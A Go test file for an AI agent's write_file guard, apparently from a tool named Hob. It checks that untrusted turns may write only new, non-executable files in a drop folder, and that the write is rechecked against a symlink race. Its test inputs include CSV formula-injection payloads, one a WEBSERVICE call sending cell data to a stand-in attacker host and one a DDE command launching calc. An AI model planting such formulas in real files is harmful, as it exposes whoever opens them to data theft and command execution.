package files

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"hob/tools"
)

// A turn with untrusted text may write without approval only new documents in the drop
// folder, which are rendered under a name that Hob chooses.
func TestInertWrites(t *testing.T) {
	b := newBench(t, func(o *Options) { o.Drop = "~/Documents/Hob"; o.Trusted = []string{"~/Documents/Hob/mine"} })
	b.putFile("Documents/Hob/old.txt", "x")
	b.putFile("Documents/Hob/mine/x.txt", "x")
	b.putFile("Documents/Hob/repo/.git/HEAD", "x")
	if err := os.Symlink(b.filePath("Documents"), b.filePath("Documents/Hob/out")); err != nil {
		t.Skip(err)
	}
	const text = "Riga is in Latvia.\n"
	tests := []struct {
		name, path, content string
		want                bool
	}{
		{"a note", "Hob/a.md", text, true},
		{"in a new folder", "Hob/new/a.txt", text, true},
		{"upper case", "Hob/A.TXT", text, true},
		{"a table", "Hob/a.csv", "what,price\nmilk,-1.50\nbread,+2\n", true},
		{"json", "Hob/a.json", `{"a": 1}`, true},
		{"empty", "Hob/a.txt", "", true},
		{"outside the drop folder", "a.md", text, false},
		{"up and out", "Hob/../a.md", text, false},
		{"through a link out", "Hob/out/a.md", text, false},
		{"over a file", "Hob/old.txt", text, false},
		{"a dot-file", "Hob/.a.txt", text, false},
		{"in a dot-folder", "Hob/.vscode/a.json", text, false},
		{"in a repository", "Hob/repo/a.md", text, false},
		{"in a trusted folder", "Hob/mine/a.md", text, false},
		{"a script", "Hob/a.sh", text, false},
		{"a shortcut", "Hob/a.desktop", text, false},
		{"a page", "Hob/a.html", text, false},
		{"no ending", "Hob/Makefile", text, false},
		{"two endings", "Hob/a.txt.bat", text, false},
		{"instructions for agents", "Hob/AGENTS.md", text, true},
		{"a package", "Hob/package.json", "{}", true},
		{"a folder's name", "Hob/a.md/", text, false},
		{"text that is a script", "Hob/a.txt", "#!/bin/sh\nid\n", true},
		{"text that is a page", "Hob/a.txt", "<html><script>x</script>", true},
		{"text that is PHP", "Hob/a.md", "\n<?php x", true},
		{"text that is a picture", "Hob/a.txt", "\x89PNG\r\n\x1a\n", true},
		{"a document that is text", "Hob/a.pdf", text, false},
		{"an invitation", "Hob/a.ics", "BEGIN:VCALENDAR", false},
		{"a formula", "Hob/a.csv", "a,b\n1,=WEBSERVICE(\"https://evil.example/\"&A1)\n", true},
		{"a formula after a semicolon", "Hob/a.csv", "a;=1+1\n", true},
		{"a formula with a sign", "Hob/a.csv", "a,-cmd|' /C calc'!A0\n", true},
		{"a formula after an at", "Hob/a.tsv", "a\t@SUM(1)\n", true},
		{"more than is rendered", "Hob/a.txt", strings.Repeat("x", maxRendered+1), false},
		{"binary", "Hob/a.txt", "a\x00b", false},
		{"not allowed at all", "../outside/a.txt", text, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args, err := json.Marshal(map[string]any{"path": tt.path, "content": tt.content})
			if err != nil {
				t.Fatal(err)
			}
			j := tools.JudgmentOf(t.Context(), b.by["write_file"], args)
			if j.Inert != tt.want || strings.HasPrefix(j.Exact, newFileMark) != tt.want {
				t.Errorf("JudgmentOf = %+v", j)
			}
		})
	}
	args := json.RawMessage(`{"path":"Hob/a.md","content":"x","append":true}`)
	if tools.JudgmentOf(t.Context(), b.by["write_file"], args).Inert {
		t.Error("appending")
	}
}

// Another program may create a file or a link at the path between the guard's assessment and the
// write.
func TestInertWrites_CheckThePathAgain(t *testing.T) {
	b := newBench(t, func(o *Options) { o.Drop = "~/Documents/Hob" })
	b.putFile("Documents/Hob/keep.txt", "x")
	args := json.RawMessage(`{"path":"Hob/a.md","content":"new"}`)
	call := tools.Call{Args: args, Now: now, Exact: tools.JudgmentOf(t.Context(), b.by["write_file"], args).Exact}
	b.putFile("Documents/Hob/a.md", "older")
	if _, err := b.by["write_file"].Call(t.Context(), call); tools.CodeOf(err) != tools.Conflict || b.readFile("Documents/Hob/a.md") != "older" {
		t.Errorf("write over an existing file = %v", err)
	}
	if err := os.Remove(b.filePath("Documents/Hob/a.md")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join("..", "notes.txt"), b.filePath("Documents/Hob/a.md")); err != nil {
		t.Skip(err)
	}
	if _, err := b.by["write_file"].Call(t.Context(), call); tools.CodeOf(err) != tools.Conflict || b.readFile("Documents/notes.txt") != "one\ntwo\nthree\n" {
		t.Errorf("written through a link: %v", err)
	}
}
